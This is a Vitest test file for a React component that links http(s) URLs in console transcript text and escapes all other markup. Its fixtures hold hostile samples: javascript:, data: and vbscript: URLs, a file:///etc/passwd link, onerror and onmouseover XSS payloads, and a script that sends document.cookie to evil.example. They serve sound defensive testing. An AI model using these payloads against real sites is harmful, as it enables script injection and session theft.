// LinkedText rendered by React (server markup, the same elements the console mounts): hostile transcript text
// stays text, escaped; only http(s) URLs become links, each opening outside the console without an opener.
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { LinkedText } from './LinkedText.js';

const markupOf = (text: string) => renderToStaticMarkup(<LinkedText text={text} />);

/** Every <a …> tag in the markup. */
const anchorsIn = (markup: string) => markup.match(/<a\b[^>]*>/g) ?? [];

describe('LinkedText', () => {
  it('makes an http(s) URL a link that opens in a new tab or the system browser, without an opener or referrer', () => {
    expect(markupOf('Tracking: https://track.example.com/p/123.')).toBe(
      'Tracking: <a class="message-link" href="https://track.example.com/p/123" target="_blank" ' +
        'rel="noopener noreferrer">https://track.example.com/p/123</a>.',
    );
  });

  it.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(document.cookie)',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'file:///etc/passwd',
    'vbscript:msgbox(1)',
  ])('renders %j as text, no link', (hostile) => {
    const markup = markupOf(hostile);
    expect(anchorsIn(markup)).toEqual([]);
    expect(markup).toBe(hostile.replace(/&/g, '&amp;'));
  });

  it('escapes markup around a URL: quotes and angle brackets never reach an attribute or a tag', () => {
    const markup = markupOf(`http://x.se/"onmouseover="alert(1) http://y.se/'><img src=x onerror=alert(1)>`);
    expect(anchorsIn(markup)).toEqual([
      '<a class="message-link" href="http://x.se/" target="_blank" rel="noopener noreferrer">',
      '<a class="message-link" href="http://y.se/" target="_blank" rel="noopener noreferrer">',
    ]);
    expect(markup).not.toContain('<img');
    expect(markup).toContain('&lt;img src=x onerror=alert(1)&gt;');
    expect(markup).toContain('&quot;onmouseover=&quot;alert(1)');
  });

  it('shows a <script> as text, with the URL inside it as an ordinary link', () => {
    const markup = markupOf('<script>location="http://evil.example/steal?c="+document.cookie</script>');
    expect(markup).not.toContain('<script');
    expect(markup).toContain('&lt;script&gt;location=&quot;');
    expect(anchorsIn(markup)).toEqual([
      '<a class="message-link" href="http://evil.example/steal?c=" target="_blank" rel="noopener noreferrer">',
    ]);
  });
});
